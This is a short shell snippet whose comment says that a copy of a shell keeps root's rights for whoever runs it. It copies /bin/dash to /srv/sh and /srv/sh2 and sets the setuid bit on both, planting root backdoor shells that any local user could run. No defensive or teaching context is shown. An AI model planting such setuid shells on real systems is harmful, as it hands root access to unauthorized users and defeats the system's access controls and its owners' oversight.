# A copy of a shell keeps root's rights for whoever runs it
cp /bin/dash /srv/sh
cp /bin/dash /srv/sh2
#record
chmod 4755 /srv/sh
cd /srv; chmod u+s sh2
